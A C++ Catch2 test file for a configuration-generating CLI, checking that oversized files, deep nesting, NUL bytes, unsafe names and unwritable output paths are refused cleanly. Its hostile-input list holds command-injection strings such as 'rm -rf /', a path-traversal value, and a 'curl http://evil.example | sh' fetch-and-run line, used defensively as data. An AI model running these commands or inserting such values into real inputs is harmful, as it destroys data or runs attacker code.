// Hostile inputs end to end (issue 9), beyond tests/spec/test_bad_inputs.cpp:
// huge files named by globs and overlays are refused by size without being
// read, deep nesting in services, shell metacharacters and newlines that
// stay data (never a path, never unquoted YAML), unsafe names refused before
// they reach a path, and output directories that cannot be written.
#include <unistd.h>
#include <yaml-cpp/yaml.h>

#include <catch2/catch.hpp>
#include <chrono>
#include <set>

#include "support/cli_fixture.h"

using namespace ivcapgen::testing;
namespace fs = std::filesystem;

namespace {

// `validate ENV`, checked to answer within 2 s (no hang, nothing read whole).
CliResult validate_quickly(const std::string& env) {
  const auto start = std::chrono::steady_clock::now();
  CliResult r = run_cli({"validate", env, "--color", "never"});
  CHECK(std::chrono::steady_clock::now() - start < std::chrono::seconds(2));
  return r;
}

bool contains(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}

// Every string scalar of every document of a YAML file.
void collect_strings(const YAML::Node& n, std::set<std::string>& out) {
  if (n.IsScalar()) out.insert(n.Scalar());
  if (n.IsSequence()) {
    for (const auto& c : n) collect_strings(c, out);
  }
  if (n.IsMap()) {
    for (const auto& kv : n) {
      collect_strings(kv.first, out);
      collect_strings(kv.second, out);
    }
  }
}

// Strings a shell or a path would take for something else.
const std::vector<std::string> kHostile = {
    "$(rm -rf /)",
    "`reboot`",
    "a; rm -rf / #",
    "../../../etc/passwd",
    "line one\nline two",
    "x' || curl http://evil.example | sh '",
    "\"quoted\" and \\backslash\\",
    "*.yaml && echo",
};

std::string yaml_double_quoted(const std::string& s) {
  std::string q = "\"";
  for (char c : s) {
    if (c == '"' || c == '\\') q += '\\';
    q += c == '\n' ? std::string("\\n") : std::string(1, c);
  }
  return q + "\"";
}

}  // namespace

TEST_CASE("a 100 MB service file or overlay is refused by its size, never read") {
  EnvTree t;
  auto env = t.environment(
      "  provider: local\n  services: [svc/*.yaml]\n  overlays: [big-overlay.yaml]\n");
  fs::create_directories(t / "svc");
  // Sparse files: 100 MB, and 64 GiB — reading that one would take minutes.
  for (auto [name, size] : {std::pair{"svc/huge.yaml", uintmax_t{100} << 20},
                            std::pair{"big-overlay.yaml", uintmax_t{64} << 30}}) {
    write_file(t / name, "name: x\n");
    fs::resize_file(t / name, size);
  }
  auto r = validate_quickly(env);
  INFO(r.err);
  CHECK(r.code == 1);
  CHECK(contains(r.err, "huge.yaml' is 100 MiB, over the 16 MiB input limit"));
  CHECK(contains(r.err, "big-overlay.yaml' is 65536 MiB, over the 16 MiB input limit"));
}

TEST_CASE("10,000-deep nesting and NUL bytes in a service file are errors, not crashes") {
  EnvTree t;
  auto env = t.environment("  provider: local\n  services: [svc/*.yaml]\n");
  t.write("svc/flow.yaml", basic_service("flow", "  env: " + std::string(10000, '{') + "a: b" +
                                                     std::string(10000, '}') + "\n"));
  std::string block = "  args:\n    ";
  for (int i = 0; i < 10000; ++i) block += "- ";
  t.write("svc/block.yaml", basic_service("block", block + "x\n"));
  t.write("svc/nul.yaml", basic_service("nul", std::string("  args: [\"a\0b\"]\n", 17)));
  auto r = validate_quickly(env);
  INFO(r.err);
  CHECK(r.code == 1);
  CHECK(contains(r.err, "flow.yaml:8:"));
  CHECK(contains(r.err, "block.yaml:9:"));
  CHECK(contains(r.err, "nul.yaml:8:"));
  CHECK(contains(r.err, "NUL"));
}

TEST_CASE("shell metacharacters and newlines in values stay data in every output") {
  EnvTree t;
  auto env = t.environment("  provider: local\n  services: [svc/*.yaml]\n");
  std::string args = "  args:\n", vars = "  env:\n";
  for (size_t i = 0; i < kHostile.size(); ++i) {
    args += "    - " + yaml_double_quoted(kHostile[i]) + "\n";
    vars += "    VAR_" + std::to_string(i) + ": " + yaml_double_quoted(kHostile[i]) + "\n";
  }
  t.write("svc/hostile.yaml", basic_service("hostile", args + vars));
  TempDir out;
  auto r = run_cli({"build", env, "-o", (out / "o").string(), "--color", "never"});
  INFO(r.err);
  REQUIRE(r.code == 0);

  // No file outside the output directory, no path made of a value.
  std::set<std::string> strings;
  size_t yaml_files = 0;
  for (const auto& e : fs::recursive_directory_iterator(out.path())) {
    const std::string rel = fs::relative(e.path(), out / "o").generic_string();
    INFO(rel);
    CHECK(rel.find_first_not_of("abcdefghijklmnopqrstuvwxyz0123456789._-/") == std::string::npos);
    if (e.is_regular_file() && e.path().extension() == ".yaml") {
      // Every output file parses, and holds the values as whole scalars.
      for (const auto& doc : YAML::LoadAllFromFile(e.path().string())) {
        collect_strings(doc, strings);
      }
      ++yaml_files;
    }
  }
  CHECK(yaml_files > 3);
  for (const auto& h : kHostile) {
    INFO(h);
    CHECK(strings.count(h) == 1);
  }
}

TEST_CASE("names with shell metacharacters or newlines never reach a path") {
  EnvTree t;
  fs::create_directories(t / "svc");
  const std::vector<std::string> names = {"a`id`", "a;b", "a\nb", "a b", "a/../../b", "-rf"};
  for (size_t i = 0; i < names.size(); ++i) {
    t.write("svc/" + std::to_string(i) + ".yaml", basic_service(yaml_double_quoted(names[i])));
  }
  auto env = t.environment("  provider: local\n  project: \"x$(id)\"\n  services: [svc/*.yaml]\n",
                           "\"../evil\"");
  TempDir out;
  auto r = run_cli({"build", env, "--color", "never"});
  INFO(r.err);
  CHECK(r.code == 1);
  CHECK(contains(r.err, "environment name '../evil' must be a DNS-1123 label"));
  CHECK(contains(r.err, "x$(id)"));
  size_t refused = 0;
  for (size_t i = 0; i < names.size(); ++i) {
    refused += contains(r.err, std::to_string(i) + ".yaml:2:7: error: invalid service name");
  }
  CHECK(refused == names.size());
  CHECK_FALSE(fs::exists(t / "out"));
  CHECK_FALSE(fs::exists(t.path().parent_path() / "evil"));
}

TEST_CASE("an output path that is a file is refused and left alone") {
  EnvTree t;
  auto env = t.environment("  provider: local\n");
  write_file(t / "taken", "precious");
  auto r = run_cli({"build", env, "-o", (t / "taken").string()});
  CHECK(r.code == 1);
  CHECK(contains(r.err, "not a directory"));
  CHECK(contains(r.err, "the previous output was left untouched"));
  CHECK(read_file(t / "taken") == "precious");
}

TEST_CASE("a read-only output directory fails cleanly, the previous output intact") {
  if (::geteuid() == 0) IVCAPGEN_SKIP("running as root: permissions do not stop root");
  EnvTree t;
  auto env = t.environment("  provider: local\n");
  const fs::path out = t / "ro" / "out";
  REQUIRE(run_cli({"build", env, "-o", out.string()}).code == 0);
  const std::string manifest = read_file(out / "manifest.json");
  t.write("environment.yaml",
          read_file(t / "environment.yaml") + "  runtime: {gateway: {replicas: 2}}\n");
  fs::permissions(t / "ro", fs::perms::owner_read | fs::perms::owner_exec);
  auto r = run_cli({"build", env, "-o", out.string()});
  fs::permissions(t / "ro", fs::perms::owner_all);
  INFO(r.err);
  CHECK(r.code == 1);
  CHECK(contains(r.err, "Permission denied"));
  CHECK(read_file(out / "manifest.json") == manifest);
}
